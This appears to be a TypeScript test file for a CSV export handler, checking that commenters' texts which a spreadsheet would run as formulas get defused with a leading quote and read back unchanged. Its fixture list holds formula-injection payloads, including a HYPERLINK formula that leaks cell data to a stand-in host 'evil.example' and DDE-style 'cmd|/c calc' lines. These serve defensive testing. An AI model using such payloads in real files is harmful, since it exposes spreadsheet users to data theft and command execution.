import type { DataSource } from 'typeorm';
import { parseCsvRecords } from '../../../../../tools/train/csv';
import type { LabeledExamplesRepository } from '../../comments/labeled-examples.repository';
import { csvField, ExportFeedbackHandler } from './export-feedback.handler';

/** Commenters' texts that a spreadsheet would run as formulas, and some it would not. */
const TEXTS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")',
  '+1+cmd|/c calc!A0',
  '-2+3 is what they wrote',
  '@SUM(1+1)*cmd|/c calc!A0',
  '\t=1+1',
  '\r\n=1+1',
  "'=already quoted by its author",
  "'''-Comment''' in wiki markup",
  'An ordinary comment, with a comma and "quotes".',
  "It's -3 degrees = cold",
];

function exportOf(texts: string[]): Promise<string> {
  const examples = {
    list: () =>
      Promise.resolve(
        texts.map((text, i) => ({
          comment_id: `c${i}`,
          site_id: 'news',
          text,
          label: i % 2,
          source: 'replyguard',
        })),
      ),
  } as unknown as LabeledExamplesRepository;
  return new ExportFeedbackHandler({} as DataSource, examples).execute('spam');
}

describe(ExportFeedbackHandler.name, () => {
  it('defuses every cell a spreadsheet would run as a formula with a leading quote', async () => {
    const csv = await exportOf(TEXTS);
    // The cells as a spreadsheet gets them: unquoted, nothing undone.
    const cells = parseCsvRecords(csv, { restoreDefused: false }).map((r) => r.text);
    expect(cells).toEqual([
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")`,
      "'+1+cmd|/c calc!A0",
      "'-2+3 is what they wrote",
      "'@SUM(1+1)*cmd|/c calc!A0",
      "'\t=1+1",
      "'\r\n=1+1",
      "''=already quoted by its author",
      "''''-Comment''' in wiki markup",
      'An ordinary comment, with a comma and "quotes".',
      "It's -3 degrees = cold",
    ]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the source"")"`);
  });

  it('reads back as it was: the CSV reader of npm run eval undoes exactly the defusing', async () => {
    const rows = parseCsvRecords(await exportOf(TEXTS));
    expect(rows.map((r) => r.text)).toEqual(TEXTS);
    expect(rows.map((r) => r.id)).toEqual(TEXTS.map((_, i) => `replyguard-c${i}`));
  });

  it('quotes a field only when it holds a comma, a quote or a line break', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('-a,b')).toBe(`"'-a,b"`);
  });
});
